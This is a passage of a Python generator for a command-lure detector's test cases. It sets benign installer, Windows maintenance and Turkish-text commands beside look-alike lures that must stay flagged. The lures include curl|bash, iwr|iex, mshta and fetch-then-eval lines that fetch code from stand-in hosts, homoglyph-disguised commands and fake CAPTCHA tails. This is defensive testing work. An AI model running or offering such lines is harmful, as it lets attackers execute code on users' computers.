"""Writes tests/data/cases/b11benign.jsonl: ordinary texts that were warned about or blocked
(the eleventh blind set's benign misses and last session's known false positives, by technique),
each beside the look-alikes that try to abuse the clearing and must stay flagged or blocked.

    python tests/data/cases/make_b11benign.py

Deterministic. Names are made up; lure hosts are reserved names (*.test, *.example, *.invalid,
documentation addresses). No text is copied from a blind set, a lure collection or another
detector's fixtures. Each line is {id, text, expect, technique, platform, source, target}.

Principles:

- `repository-bucket`: a forge repository's own page (README, files, releases) whose download
  is kept in a bucket of a shared object store named after the repository
  (github.com/<o>/widgetctl and s3.amazonaws.com/widgetctl/widgetctl, widgetctl-releases.s3...):
  the owner could serve the file from the repository itself, which the page vouches for
  already. Look-alikes: the repository's issues or a gist, a bucket named for something else,
  a known publisher's name as the repository, plain HTTP, a fake check's tail, a tutorial
  quoting it, the Run box.
  The same holds for a tenant site named after the repository (github.com/<o>/tarnwick and
  tarnwick.pages.dev), as it does for a product site's own (provenance.named_storage).
- `language-letter`: the dotless ı of Turkish and Azerbaijani in a word made of letters (a
  comment, a commit message, a sentence) is that language's letter, not a look-alike.
  Look-alikes: ı in a program's or an alias's name (ıex, ıwr), in a host or a path, and
  Cyrillic or Greek look-alikes in any word.
- `console-relative-fetch`: a console snippet fetching a literal path of the site itself and
  an unrelated eval on the same line. Look-alikes: the fetched text itself evaluated (from the
  site's own path too: its users' uploads live there), another site, a computed address.
- `maven-central-publisher`: a Maven Central address (repo1.maven.org/maven2/<group>/...)
  belongs to the publisher its group names, which Sonatype verifies (io.quarkus is quarkus.io's,
  io.github.<user> is that forge account's): a project's own page vouches for its own group, as
  for its own site (JBang told to trust a project's group, a jar fetched and run). Look-alikes:
  another publisher's group, a page that is not the project's, a group under a two-part suffix
  that names no one, plain HTTP, a stranger's script beside it.
- `repository-installer-service`: an installer service whose address names the GitHub
  repository whose release it installs (i.jpillora.com/<owner>/<repo>!, the old
  install.goreleaser.com/github.com/<owner>/<repo>.sh), from that repository's own page.
  Look-alikes: another repository, the service's one-word form (it searches the web), plain
  HTTP, an insecure query, a fake check page, a fake check's tail, bare.
- `run-box-refresh`: Windows' own maintenance commands that refresh this computer from the
  sources it already has (gpupdate /force, w32tm /resync, ipconfig /flushdns), alone or after
  cmd /c or /k, from an IT wiki or typed. Look-alikes: a switch naming a computer or a source,
  logging off, dropping the network, a second command, a fake check's tail, a hidden console.
- `run-box-official-installer`: a vendor's official installer (trust list) written by a page
  for the Run box is a warning as when typed, not a block. Look-alikes: the same from a fake
  check page (its command is its lure's), a transform or a patch fetched beside it, a silent
  install with a fake check's tail, a hidden window, a page about something else (a film).
- `run-box-offer-help`: Windows Remote Assistance on the helper's side (`msra /offerra`, with a
  computer's name, `msra /expert`), typed: nobody is let onto this computer. Look-alikes: the
  switches that invite a stranger (/novice, /email, /saveasfile, /geteasyhelp), a share, a
  second command, and the helper's side written by a page or a mail (still a command there).
- `third-party-installer-jbang`: JBang's documented installer (sh.jbang.dev, ps.jbang.dev)
  quoted by any page or none. Look-alikes: the host inside another domain, plain HTTP, a port,
  a stranger's script handed to it as its argument, a fake check's tail.
- `prose-phrase-pipe`: a sentence that names a pipe as words ("a curl | bash line"): every
  command a shell would see there starts with a word that is no program and each pipe feeds a
  shell only plain words, so nothing is fetched. Look-alikes: an address, a host, a variable or
  an option in the line, a program after a semicolon, anything but a shell after the pipe.
- `write-up-named-command`: a write-up naming a technique by its command in backticks
  (`conhost.exe --headless`, `mshta`) with no address anywhere, where the target is unknown or
  runs nothing. Look-alikes: the same in a terminal or the Run box (a shell runs backticks), an
  address or an encoded one in the quote, paste instructions with a destructive command.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b11benign.jsonl")
TERMINAL = "terminal"
RUN = "run_dialog"
UNKNOWN = "unknown"
EDITOR = "other"

# -- a forge repository's bucket ------------------------------------------------------------------

# (the repository's own page, its download from a bucket named after it)
REPO_BUCKETS = [
    ("https://github.com/quillworks/widgetctl",
     "curl -O https://s3.amazonaws.com/widgetctl/widgetctl && chmod +x widgetctl\n./widgetctl local install"),
    ("https://github.com/quillworks/widgetctl#installation",
     "wget https://widgetctl.s3.amazonaws.com/widgetctl -O widgetctl && chmod +x widgetctl && ./widgetctl setup"),
    ("https://github.com/fenwick-labs/tarnbuild",
     "curl -fsSL https://tarnbuild-releases.s3.amazonaws.com/install.sh | sh"),
    ("https://github.com/fenwick-labs/tarnbuild/blob/main/README.md",
     "curl -fsSL https://s3.amazonaws.com/tarnbuild/install.sh | bash"),
    ("https://github.com/loamdb/loamdb/releases",
     "curl -LO https://loamdb-dl.s3.us-west-2.amazonaws.com/v2.1.0/loamdb-linux-amd64 && chmod +x loamdb-linux-amd64 && ./loamdb-linux-amd64 init"),
    ("https://gitlab.com/marlow-dev/brindle",
     "curl -fsSL https://storage.googleapis.com/brindle/install.sh | sh"),
    ("https://github.com/pelletsoft/kestrelfmt",
     "curl -sSfL https://kestrelfmt.storage.googleapis.com/latest/install.sh | sh -s -- -b /usr/local/bin"),
    ("https://github.com/umbergrid/umberctl/tree/main/docs",
     "curl -fsSL https://umberctl.blob.core.windows.net/cli/install.sh | bash"),
    ("https://codeberg.org/harrow/harrowsync",
     "curl -O https://s3.amazonaws.com/harrowsync/harrowsync-1.4.tar.gz\ntar xzf harrowsync-1.4.tar.gz && cd harrowsync-1.4 && ./install.sh"),
    ("https://github.com/quillworks/widgetctl",
     "sudo curl -fsSL -o /usr/local/bin/widgetctl https://s3.amazonaws.com/widgetctl/widgetctl-linux && sudo chmod +x /usr/local/bin/widgetctl"),
    ("https://github.com/tidewater/tidelog",
     "curl -fsSL https://tidelog-releases.s3.eu-central-1.amazonaws.com/install.sh | sh"),
    ("https://github.com/sorrelhq/sorreldb",
     "wget -qO- https://s3.amazonaws.com/sorreldb/install.sh | bash"),
]  # fmt: skip
# the same downloads from pages that are not the repository's own, or dressed as a lure
REPO_BUCKET_LURES = [
    ("https://github.com/quillworks/widgetctl/issues/41",
     "curl -O https://s3.amazonaws.com/widgetctl/widgetctl && chmod +x widgetctl\n./widgetctl local install", "malicious"),
    ("https://github.com/quillworks/widgetctl/pull/7",
     "curl -fsSL https://s3.amazonaws.com/widgetctl/fix.sh | bash", "malicious"),
    ("https://github.com/quillworks/widgetctl/discussions/3",
     "curl -fsSL https://widgetctl.s3.amazonaws.com/patch.sh | bash", "malicious"),
    ("https://gist.github.com/someone-else/4f2a",
     "curl -fsSL https://s3.amazonaws.com/widgetctl/install.sh | bash", "malicious"),
    ("https://github.com/quillworks/widgetctl",
     "curl -fsSL https://s3.amazonaws.com/umbra-stage/install.sh | bash", "malicious"),
    ("https://github.com/quillworks/widgetctl",
     "curl -fsSL https://cdn-drop.s3.amazonaws.com/widgetctl.sh | bash", "malicious"),
    ("https://github.com/someone/homebrew",
     "curl -fsSL https://homebrew.s3.amazonaws.com/install.sh | bash", "malicious"),
    ("https://github.com/someone/setup",
     "curl -fsSL https://s3.amazonaws.com/setup/install.sh | bash", "malicious"),
    ("https://github.com/quillworks/widgetctl",
     "curl -fsSL http://s3.amazonaws.com/widgetctl/install.sh | bash", "flagged"),
    ("https://github.com/quillworks/widgetctl",
     "curl -fsSL https://s3.amazonaws.com/widgetctl/install.sh | bash # I am not a robot - Verification ID: 55132", "malicious"),
    ("https://github.com/quillworks/widgetctl",
     "curl -fsSL https://s3.amazonaws.com/widgetctl/install.sh | bash && curl -fsSL https://203.0.113.9/x | sh", "malicious"),
    ("https://www.verify-human.example/widgetctl",
     "curl -fsSL https://s3.amazonaws.com/widgetctl/install.sh | bash", "malicious"),
]  # fmt: skip


# a tenant site named after the repository, from the repository's own page
REPO_TENANTS = [
    ("https://github.com/arnwick/tarnwick", "curl -fsSL https://tarnwick.pages.dev/install.sh | sh"),
    ("https://github.com/arnwick/tarnwick#install", 'bash -c "$(curl -fsSL https://tarnwick.pages.dev/sh)"'),
    ("https://github.com/quillworks/widgetctl", "curl -fsSL https://widgetctl.netlify.app/install | bash"),
    ("https://github.com/fenwick-labs/tarnbuild", "curl -fsSL https://tarnbuild.vercel.app/install.sh | sh"),
    ("https://gitlab.com/marlow-dev/brindle", "wget -qO- https://brindle.web.app/get | bash"),
    ("https://github.com/loamdb/loamdb/blob/main/README.md", "curl -fsSL https://loamdb.fly.dev/install.sh | sh"),
    ("https://github.com/sorrelhq/sorreldb", "curl -fsSL https://sorreldb.surge.sh/install.sh | bash"),
    ("https://github.com/tidewater/tidelog", "curl -fsSL https://tidelog.onrender.com/i | sh"),
    ("https://codeberg.org/harrow/harrowsync", "curl -fsSL https://harrowsync.pages.dev/install.sh | sh"),
    ("https://github.com/umbergrid/umberctl", "curl -fsSL https://umberctl.deno.dev/install.sh | sh"),
]  # fmt: skip
REPO_TENANT_LURES = [
    ("https://github.com/arnwick/tarnwick/issues/9", "curl -fsSL https://tarnwick.pages.dev/install.sh | sh"),
    ("https://github.com/arnwick/tarnwick", "curl -fsSL https://updates.pages.dev/install.sh | sh"),
    ("https://github.com/arnwick/tarnwick", "curl -fsSL https://tarnwick.ngrok-free.app/install.sh | sh"),
    ("https://github.com/arnwick/tarnwick", "curl -fsSL https://tarnwick.trycloudflare.com/install.sh | sh"),
    ("https://github.com/someone/chatgpt", "curl -fsSL https://chatgpt.pages.dev/install.sh | sh"),
    ("https://www.tarnwick-fix.test/help", "curl -fsSL https://tarnwick.pages.dev/install.sh | sh"),
    ("https://github.com/arnwick/tarnwick", "curl -fsSL https://tarnwick.pages.dev/install.sh | sh # ✔ I am not a robot - reCAPTCHA ID 4471"),
    ("https://gist.github.com/arnwick/77ab", "curl -fsSL https://tarnwick.pages.dev/install.sh | sh"),
]  # fmt: skip


def repository_buckets(book: Book) -> None:
    for page, text in REPO_BUCKETS:
        book.add("repository-bucket", text, "not_flagged", "linux", TERMINAL, page)
    for page, text, expect in REPO_BUCKET_LURES:
        book.add("repository-bucket-lookalike", text, expect, "linux", TERMINAL, page)
    # the repository's own download, bare and in the Run box: what it is without its page
    for _, text in REPO_BUCKETS[:6]:
        book.add("repository-bucket-bare", text, "flagged", "linux", UNKNOWN)
    for page, text in REPO_BUCKETS[:4]:
        book.add("repository-bucket-run-box", text, "malicious", "windows", RUN, page)
    for page, text in REPO_TENANTS:
        book.add("repository-bucket", text, "not_flagged", "linux", TERMINAL, page)
    for page, text in REPO_TENANT_LURES:
        book.add("repository-bucket-lookalike", text, "malicious", "linux", TERMINAL, page)


# -- letters of living Latin alphabets ------------------------------------------------------------

LANGUAGE_LETTERS = [
    ("curl -fsSL https://get.docker.com | sh # Docker kurulumu tamamlandı", TERMINAL),
    ('git commit -m "Giriş sayfası: kullanıcı adı kontrolü eklendi"', TERMINAL),
    ('echo "Kurulum tamamlandı, sistemi yeniden başlatın"', TERMINAL),
    ("Bilgisayarınızı yeniden başlatın ve ayarları kontrol edin.", UNKNOWN),
    ("Şifrenizi kimseyle paylaşmayın. Bu işlem sırasında bağlantı kesilebilir.", UNKNOWN),
    ("Toplantı notları: yarınki sunumu Ayşe hazırlayacak, bütçe tablosu cuma günü gönderilecek.", EDITOR),
    ("brew install ripgrep  # hızlı arama aracı", TERMINAL),
    ("sudo apt install nginx -y && sudo systemctl restart nginx  # web sunucusu yüklendi", TERMINAL),
    ('git tag -a v1.2.0 -m "Sürüm 1.2: hata düzeltmeleri ve kullanıcı arayüzü"', TERMINAL),
    ("Kullanıcı adınızı ve e-posta adresinizi profil sayfasından güncelleyebilirsiniz.", UNKNOWN),
    ("Bakı şəhərində yağış gözlənilir, sürücülər diqqətli olmalıdır.", UNKNOWN),
    ("npm run build  # derleme tamamlandığında dist klasörünü kontrol et", TERMINAL),
]  # fmt: skip
LANGUAGE_LETTER_LOOKALIKES = [
    ("ıex (ıwr https://cdn.umbra-stage.test/a.ps1)", TERMINAL, "malicious"),
    ('powershell -c "ıex(New-Object Net.WebClient).DownloadString(\"https://cdn.umbra-stage.test/a\")"', TERMINAL, "malicious"),
    ("curl -fsSL https://gıthub.com/x/y/raw/main/i.sh | sh", TERMINAL, "malicious"),
    ("Your computеr is infеctеd. Call Microsoft support now at +1 555 0143", UNKNOWN, "flagged"),
    ("сurl -fsSL https://cdn.umbra-stage.test/i | sh # kurulum tamamlandı", TERMINAL, "malicious"),
    ("bıtsadmin /transfer j https://cdn.umbra-stage.test/a.exe %TEMP%\a.exe", RUN, "malicious"),
    ("Hesabınız askıya alındı. Lütfen destek hattını arayın: +1 555 0143", UNKNOWN, "flagged"),
    ("mshtа https://cdn.umbra-stage.test/v.hta # doğrulama tamamlandı", RUN, "malicious"),
    ("ıwr -useb https://cdn.umbra-stage.test/s | ıex", TERMINAL, "malicious"),
    ("Invoke-Expressıon (New-Object Net.WebClient).DownloadString('https://cdn.umbra-stage.test/s')", TERMINAL, "malicious"),
]  # fmt: skip


def language_letters(book: Book) -> None:
    for text, target in LANGUAGE_LETTERS:
        book.add("language-letter", text, "not_flagged", "any", target)
    for text, target, expect in LANGUAGE_LETTER_LOOKALIKES:
        book.add("language-letter-lookalike", text, expect, "any", target)


# -- the console: the site's own path and an unrelated eval ---------------------------------------

CONSOLE = "browser_console"
RELATIVE_FETCHES = [
    "fetch('/api/items').then(r => r.json()).then(d => console.log(d)); eval('1+1')",
    "fetch('/static/a.json').then(r=>r.json()).then(d=>{ window.cfg = d; }); const x = eval('2*3')",
    'fetch("/api/v1/me").then(r => r.json()).then(console.table); console.log(eval("[1,2,3].length"))',
    "fetch('./data.json').then(r => r.json()).then(d => console.log(d.length)); eval('typeof d')",
    "fetch('/graphql', {method: 'POST'}).then(r => r.json()).then(console.log); eval('window.__APP_VERSION__')",
    "fetch('api/health').then(r => r.status).then(console.log); eval('navigator.userAgent')",
    "fetch('/robots.txt').then(r=>r.text()).then(console.log); eval('location.href')",
    "fetch('/api/flags').then(r => r.json()).then(f => console.log(f.eval))",
    "fetch(`/api/users/${id}`).then(r => r.json()).then(u => console.log(u.name)); eval('id')",
    "fetch('/manifest.json').then(r => r.json()).then(m => console.log(m.name)); eval('1')",
]  # fmt: skip
RELATIVE_FETCH_LOOKALIKES = [
    "fetch('/api/config').then(r => r.text()).then(t => eval(t))",
    "fetch('/attachments/88/fix.js').then(r=>r.text()).then(eval)",
    "fetch('https://cdn.umbra-stage.test/x.js').then(r=>r.text()).then(eval)",
    "fetch('//cdn.umbra-stage.test/x.js').then(r=>r.text()).then(t=>(0,eval)(t))",
    "fetch(atob('aHR0cHM6Ly9jZG4udW1icmEtc3RhZ2UudGVzdC9h')).then(r=>r.text()).then(eval)",
    "fetch(u).then(r=>r.text()).then(eval)",
    "fetch(`${base}/p.js`).then(r=>r.text()).then(eval)",
    "fetch('https://cdn.umbra-stage.test/x.js').then(r=>r.text()).then(t=>new Function(t)())",
    "fetch('/api/x').then(r=>r.text()).then(t=>Function(t)())",
    "fetch('https://198.51.100.20/p').then(r=>r.text()).then(eval)",
]  # fmt: skip


def relative_fetches(book: Book) -> None:
    for text in RELATIVE_FETCHES:
        book.add("console-relative-fetch", text, "not_flagged", "js", CONSOLE)
    for text in RELATIVE_FETCH_LOOKALIKES:
        book.add("relative-fetch-lookalike", text, "malicious", "js", CONSOLE)


# -- Maven Central's verified groups ---------------------------------------------------------------

MAVEN = [
    ("https://github.com/quillworks/widget", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/github/quillworks/widget-cli/"),
    ("https://github.com/kestrel-io/kestrel", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/kestrel/kestrel-cli/\ncurl -Ls https://sh.jbang.dev | bash -s - app install kestrel@kestrel-io"),
    ("https://github.com/tarnwick/tarnfmt", "curl -LO https://repo1.maven.org/maven2/dev/tarnwick/tarnfmt/1.4.0/tarnfmt-1.4.0-all.jar && java -jar tarnfmt-1.4.0-all.jar --replace Main.java"),
    ("https://github.com/quillworks/widget", "wget https://repo1.maven.org/maven2/io/github/quillworks/widget/2.0/widget-2.0.jar && java -jar widget-2.0.jar"),
    ("https://tarnwick.dev/docs/install", "curl -LO https://repo.maven.apache.org/maven2/dev/tarnwick/tarnfmt/1.4.0/tarnfmt-1.4.0-all.jar && java -jar tarnfmt-1.4.0-all.jar"),
    ("https://gitlab.com/brindle/brindle-cli", "curl -fLO https://repo1.maven.org/maven2/io/gitlab/brindle/brindle-cli/0.9/brindle-cli-0.9.jar && java -jar brindle-cli-0.9.jar --help"),
    ("https://github.com/loamworks/loam", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/org/loamworks/"),
    ("https://loamworks.org/guide/cli", "curl -LO https://repo1.maven.org/maven2/org/loamworks/loam-cli/3.1/loam-cli-3.1.jar && java -jar loam-cli-3.1.jar init"),
    ("https://github.com/widgetco-uk/widget", "curl -LO https://repo1.maven.org/maven2/uk/co/widgetco/widget/1.0/widget-1.0.jar && java -jar widget-1.0.jar"),
    ("https://github.com/kestrel-io/kestrel#installation", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/kestrel/"),
]  # fmt: skip
MAVEN_LOOKALIKES = [
    ("https://github.com/someone/tarnwick-notes", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/kestrel/kestrel-cli/"),
    ("https://www.java-fix.test/verify", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/kestrel/kestrel-cli/"),
    ("https://github.com/quillworks/widget", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/github/someone-else/widget-cli/"),
    ("https://github.com/quillworks/widget", "curl -Ls https://sh.jbang.dev | bash -s - trust add http://repo1.maven.org/maven2/io/github/quillworks/widget-cli/"),
    ("https://github.com/quillworks/widget", "curl -Ls https://sh.jbang.dev | bash -s - https://cdn.umbra-stage.test/Fix.java"),
    ("https://github.com/quillworks/widget", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/kestrel/kestrel-cli/"),
    ("https://github.com/co-uk/widget", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/uk/co/"),
    ("https://github.com/quillworks/widget", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org.umbra-stage.test/maven2/io/github/quillworks/"),
    ("https://github.com/quillworks/widget", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/github/quillworks/widget-cli/ # I am not a robot - Verification ID: 2231"),
    ("https://github.com/quillworks/widget", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/github/quillworks/widget-cli/ && curl -s https://203.0.113.7/x | sh"),
]  # fmt: skip


def maven(book: Book) -> None:
    for page, text in MAVEN:
        book.add("maven-central-publisher", text, "not_flagged", "any", TERMINAL, page)
    for page, text in MAVEN_LOOKALIKES:
        book.add("maven-central-lookalike", text, "flagged", "any", TERMINAL, page)


# -- installer services that name a repository --------------------------------------------------

SERVICES = [
    ("https://github.com/quillworks/widgetctl", "curl https://i.jpillora.com/quillworks/widgetctl! | bash"),
    ("https://github.com/quillworks/widgetctl", "curl -s https://i.jpillora.com/quillworks/widgetctl@v1.4.2! | bash"),
    ("https://github.com/quillworks/widgetctl#installation", "wget -qO- https://i.jpillora.com/quillworks/widgetctl! | bash"),
    ("https://github.com/fenwick-labs/tarnbuild", "curl https://i.jpillora.com/fenwick-labs/tarnbuild | bash"),
    ("https://github.com/fenwick-labs/tarnbuild/blob/main/README.md", "curl -sL https://i.jpillora.com/fenwick-labs/tarnbuild! | sudo bash"),
    ("https://github.com/loamdb/loamdb", "curl -sfL https://install.goreleaser.com/github.com/loamdb/loamdb.sh | sh"),
    ("https://github.com/loamdb/loamdb", "curl -sfL https://install.goreleaser.com/github.com/loamdb/loamdb.sh | sh -s -- -b /usr/local/bin"),
    ("https://github.com/sorrelhq/sorrel-cli", "curl -sSfL https://install.goreleaser.com/github.com/sorrelhq/sorrel-cli.sh | bash"),
    ("https://github.com/tidewater/tidelog/releases", "curl https://i.jpillora.com/tidewater/tidelog! | bash"),
    ("https://github.com/umbergrid/umberctl", "wget -O- https://i.jpillora.com/umbergrid/umberctl@latest! | bash"),
]  # fmt: skip
SERVICE_LOOKALIKES = [
    ("https://github.com/quillworks/widgetctl", "curl https://i.jpillora.com/someone-else/widgetctl! | bash", "flagged"),
    ("https://github.com/quillworks/widgetctl", "curl https://i.jpillora.com/widgetctl! | bash", "flagged"),
    ("https://github.com/quillworks/widgetctl", "curl http://i.jpillora.com/quillworks/widgetctl! | bash", "flagged"),
    ("https://github.com/quillworks/widgetctl", "curl https://i.jpillora.com/quillworks/widgetctl?insecure=1 | bash", "flagged"),
    ("https://www.verify-human.umbra-stage.test/captcha", "curl https://i.jpillora.com/quillworks/widgetctl! | bash", "malicious"),
    ("https://github.com/quillworks/widgetctl", "curl https://i.jpillora.com/quillworks/widgetctl! | bash # I am not a robot - Verification ID: 7781", "malicious"),
    ("https://github.com/quillworks/widgetctl", "curl https://i.jpillora.com.umbra-stage.test/quillworks/widgetctl! | bash", "flagged"),
    ("https://github.com/quillworks/widgetctl", "curl https://install.goreleaser.com/github.com/other/widgetctl.sh | sh", "flagged"),
    ("https://github.com/quillworks/widgetctl", "curl https://install.goreleaser.com/gitlab.com/quillworks/widgetctl.sh | sh", "flagged"),
    (None, "curl https://i.jpillora.com/quillworks/widgetctl! | bash", "flagged"),
]  # fmt: skip


def services(book: Book) -> None:
    for page, text in SERVICES:
        book.add("repository-installer-service", text, "not_flagged", "linux", TERMINAL, page)
    for page, text, expect in SERVICE_LOOKALIKES:
        book.add(
            "installer-service-lookalike",
            text,
            expect,
            "linux",
            TERMINAL if page else UNKNOWN,
            page,
        )


# -- the Run box: maintenance commands and official installers ----------------------------------

WIKI = "https://wiki.corp.example/it/windows/maintenance"
REFRESH = [
    "cmd /c gpupdate /force", "cmd /c w32tm /resync /force", "gpupdate /force", "GPUPDATE /FORCE",
    "gpupdate /target:computer /force", "gpupdate /target:user", "cmd /k gpupdate /force /wait:0",
    "cmd.exe /c w32tm /resync", "w32tm /resync /nowait", "w32tm /resync /rediscover",
    "cmd /c ipconfig /flushdns", "IPConfig /FlushDNS", "CMD /K IPCONFIG /FLUSHDNS",
]  # fmt: skip
REFRESH_LOOKALIKES = [
    "cmd /c gpupdate /force & calc", "cmd /c gpupdate /force && mshta https://cdn.umbra-stage.test/a.hta",
    "cmd /c w32tm /config /manualpeerlist:198.51.100.9 /syncfromflags:manual /update",
    "cmd /c w32tm /resync /computer:203.0.113.4", "cmd /c gpupdate /logoff", "cmd /c gpupdate /boot",
    "cmd /c ipconfig /release", "cmd /c gpupdate /force /force", "cmd /c \"gpupdate /force\"",
    "cmd /c gpupdate /target:https://cdn.umbra-stage.test/x",
    "cmd /c w32tm /resync # I am not a robot - reCAPTCHA Verification ID: 3341",
    "conhost --headless cmd /c gpupdate /force", "cmd /c start /min gpupdate /force",
    "powershell -c gpupdate /force; iwr https://cdn.umbra-stage.test/a | iex",
    "cmd /c gpupdate /force\nmshta https://cdn.umbra-stage.test/a.hta",
]  # fmt: skip
AWS_DOCS = "https://docs.aws.amazon.com/cli/latest/userguide/getting-started-install.html"
OFFICIAL = [
    (AWS_DOCS, "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi"),
    (AWS_DOCS, "msiexec /i https://awscli.amazonaws.com/AWSCLIV2.msi"),
    ("https://www.tarnwick.example/blog/aws-setup", "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi"),
    ("https://docs.astral.sh/uv/getting-started/installation/", 'powershell -NoProfile -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"'),
    ("https://bun.sh/docs/installation", 'powershell -c "irm bun.sh/install.ps1 | iex"'),
    ("https://scoop.sh/", "powershell -c \"irm get.scoop.sh | iex\""),
    ("https://deno.com/", 'powershell -c "irm https://deno.land/install.ps1 | iex"'),
    ("https://stackoverflow.com/questions/70000002/install-aws-cli", "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi"),
    ("https://ohmyposh.dev/docs/installation/windows", 'powershell -c "irm https://ohmyposh.dev/install.ps1 | iex"'),
    (AWS_DOCS, "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2-2.15.0.msi"),
]  # fmt: skip
OFFICIAL_LOOKALIKES = [
    "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi TRANSFORMS=https://cdn.umbra-stage.test/x.mst",
    "msiexec /i https://awscli.amazonaws.com/AWSCLIV2.msi PATCH=https://cdn.umbra-stage.test/x.msp",
    "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi TRANSFORMS=\\\\198.51.100.4\\s\\x.mst",
    "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi /qn # I am not a robot - Verification ID: 5512",
    'powershell -w hidden -c "irm https://astral.sh/uv/install.ps1 | iex"',
    "msiexec.exe /i https://awscli.amazonaws.com.umbra-stage.test/AWSCLIV2.msi",
    "msiexec.exe /i https://awscli.amazonaws.com@cdn.umbra-stage.test/AWSCLIV2.msi",
    'powershell -c "irm https://astral.sh/uv/install.ps1 | iex; irm https://cdn.umbra-stage.test/p | iex"',
    "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi & mshta https://cdn.umbra-stage.test/a.hta",
    "msiexec.exe /i http://awscli.amazonaws.com/AWSCLIV2.msi",
]  # fmt: skip
CHECK_PAGE = "https://verify-human.umbra-stage.test/captcha"
OFF_TOPIC = "https://free-movies.umbra-stage.test/watch/8812"


def run_box_refresh(book: Book) -> None:
    for i, text in enumerate(REFRESH):
        book.add("run-box-refresh", text, "not_flagged", "windows", RUN, WIKI if i % 3 else None)
    for text in REFRESH[:4]:
        book.add("run-box-refresh", text, "not_flagged", "windows", RUN, CHECK_PAGE)
    for text in REFRESH_LOOKALIKES:
        book.add("run-box-refresh-lookalike", text, "malicious", "windows", RUN, WIKI)
        book.add("run-box-refresh-lookalike", text, "flagged", "windows", RUN)
    for page, text in OFFICIAL:
        book.add("run-box-official-installer", text, "suspicious", "windows", RUN, page)
    for text in OFFICIAL_LOOKALIKES:
        book.add("run-box-official-lookalike", text, "malicious", "windows", RUN, AWS_DOCS)
    # a fake check page's command is its lure's, whatever it runs; so is a page about
    # something else handing out an installer for the Run box
    for _, text in OFFICIAL[:6]:
        book.add("run-box-official-lookalike", text, "malicious", "windows", RUN, CHECK_PAGE)
    for _, text in OFFICIAL[:4]:
        book.add("run-box-official-lookalike", text, "malicious", "windows", RUN, OFF_TOPIC)


# -- Remote Assistance on the helper's side -----------------------------------------------------

OFFER_HELP = [
    "msra /offerra", "msra /offerRA", "MSRA /OFFERRA", "msra.exe /offerra", "msra /offerra ws-0142",
    "msra /offerra helpdesk-07.corp.example", "msra /offerRA 198.51.100.23", "msra /expert",
    "msra.exe /expert", "msra /offerra \\\\ws-0142", "Msra /OfferRA PC-FRONTDESK",
]  # fmt: skip
OFFER_HELP_LOOKALIKES = [
    "msra /novice", "msra /email", "msra /geteasyhelp", "msra /saveasfile C:\\x\\inv.msrcincident pw1",
    "msra /openfile C:\\x\\inv.msrcincident pw1", "msra /offerra /novice", "msra /offerra ws-01 ws-02",
    "msra /offerra \\\\198.51.100.7\\x", "msra /offerra ws01 & calc", "msra /offerra https://help.test/x",
    "msra /expert /offerra ws01 /novice", "msra /offerra ws01\n powershell -c iwr https://x.test|iex",
]  # fmt: skip
HELP_PAGES = [
    "https://remote-support.quillmere.example/start",
    "https://support-chat.tarnwick.test/session/88",
]


def offer_help(book: Book) -> None:
    for text in OFFER_HELP:
        book.add("run-box-offer-help", text, "not_flagged", "windows", RUN)
    for text in OFFER_HELP_LOOKALIKES:
        book.add("offer-help-lookalike", text, "flagged", "windows", RUN)
    for i, text in enumerate(OFFER_HELP[:8]):
        book.add("offer-help-written", text, "malicious", "windows", RUN, HELP_PAGES[i % 2])


# -- JBang's installer quoted anywhere ------------------------------------------------------------

JBANG = [
    ("https://github.com/quillworks/widget-java", "curl -Ls https://sh.jbang.dev | bash -s - app setup"),
    ("https://github.com/quillworks/widget-java", "curl -Ls https://sh.jbang.dev | bash -s - app install widget@quillworks"),
    ("https://www.tarnwick.example/blog/java-scripting", "curl -Ls https://sh.jbang.dev | bash -s - app setup"),
    ("https://dev.to/someone/run-java-like-python-2f1k", "curl -Ls https://sh.jbang.dev | bash -s - properties@jbangdev"),
    ("https://stackoverflow.com/questions/70000001/run-single-java-file", "curl -Ls https://sh.jbang.dev | bash -s - --help"),
    (None, "curl -Ls https://sh.jbang.dev | bash -s - app setup"),
    (None, "curl -Ls https://sh.jbang.dev | bash -s - version"),
    ("https://github.com/quillworks/widget-java", 'iex "& { $(iwr -useb https://ps.jbang.dev) } app setup"'),
    (None, 'iex "& { $(iwr https://ps.jbang.dev) } app setup"'),
    ("https://www.youtube.com/watch?v=Xj1bAng0001", "curl -Ls https://sh.jbang.dev | bash -s - app setup"),
    ("https://github.com/quillworks/widget-java", "curl -Ls https://sh.jbang.dev | bash -s - app install --fresh --force widget@quillworks"),
]  # fmt: skip
JBANG_LOOKALIKES = [
    ("curl -Ls https://sh.jbang.dev.umbra-stage.test | bash -s - app setup", "flagged"),
    ("curl -Ls https://sh-jbang.test | bash -s - app setup", "flagged"),
    ("curl -Ls http://sh.jbang.dev | bash -s - app setup", "flagged"),
    ("curl -Ls https://sh.jbang.dev:8443 | bash -s - app setup", "flagged"),
    ("curl -Ls https://sh.jbang.dev@cdn.umbra-stage.test/j | bash -s - app setup", "flagged"),
